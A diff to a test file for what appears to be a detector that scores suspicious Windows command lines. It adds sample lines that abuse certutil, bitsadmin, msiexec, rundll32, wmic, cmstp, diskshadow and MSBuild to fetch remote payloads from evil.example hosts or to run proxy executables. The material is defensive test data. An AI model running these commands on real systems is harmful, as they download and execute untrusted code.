@@ -38,6 +38,20 @@ describe('what is excused is not excused for a word somewhere on the line', () =
     String.raw`cscript.exe ¦ cscript.exe ..\..\..\Public\q.vbs ..\x\y ¦ cmd.exe`,
     String.raw`wscript.exe ¦ wscript ..\q.js ¦ explorer.exe`,
     String.raw`installutil.exe ¦ InstallUtil.exe /U "C:\Program Files\App\x.dll" C:\Users\Public\evil.dll ¦ winword.exe`,
+    String.raw`certutil.exe ¦ certutil -encode C:\a\evil.exe a.pfx -f ¦ cmd.exe`,
+    String.raw`certutil.exe ¦ certutil -encode -config a.pfx C:\a\evil.exe b.txt ¦ cmd.exe`,
+    String.raw`bitsadmin.exe ¦ bitsadmin /transfer v http://srv/a.exe C:\x\a.exe http://srv/v.txt C:\x\v.txt ¦ cmd.exe`,
+    String.raw`certutil.exe ¦ certutil -urlcache -f http://evil.example/v.txt C:\x\v.txt ¦ cmd.exe`,
+    String.raw`diskshadow.exe ¦ diskshadow /s C:\x\d.txt C:\x\y\a.dsh ¦ cmd.exe`,
+    String.raw`diskshadow.exe ¦ diskshadow /s C:\x.dsh ¦ cmd.exe`,
+    'wmic.exe ¦ wmic /node:PC7 process call create "cmd.exe /c gpupdate /force & calc" ¦ cmd.exe',
+    String.raw`wmic.exe ¦ wmic /node:PC7 process call create "cmd.exe /c C:\x\evil.exe gpupdate" ¦ cmd.exe`,
+    String.raw`wmic.exe ¦ wmic /node:PC7 process call create "C:\Windows\System32\calc.exe process call create gpupdate" ¦ cmd.exe`,
+    String.raw`cmstp.exe ¦ cmstp.exe /s /AU /ns "C:\ProgramData\Corp\VPN\corp.inf" ¦ powershell.exe`,
+    'msiexec.exe ¦ msiexec /i http://+.evil.example:8080/a.msi /q ¦ cmd.exe',
+    'rundll32.exe ¦ rundll32.exe davclnt.dll,DavSetCookie localhost.evil.example@SSL https://localhost.evil.example/a ¦ cmd.exe',
+    String.raw`rundll32.exe ¦ rundll32.exe C:\ProgramData\App\Logs\a.log,Run ¦ cmd.exe`,
+    String.raw`msbuild.exe ¦ MSBuild.exe C:\Windows\Logs\CBS\a.txt ¦ cmd.exe`,
   ])('%s', (line) => {
     const { bits, codes } = scored(line)
     expect(bits, codes.join(' ')).toBeGreaterThanOrEqual(DEVIATION)
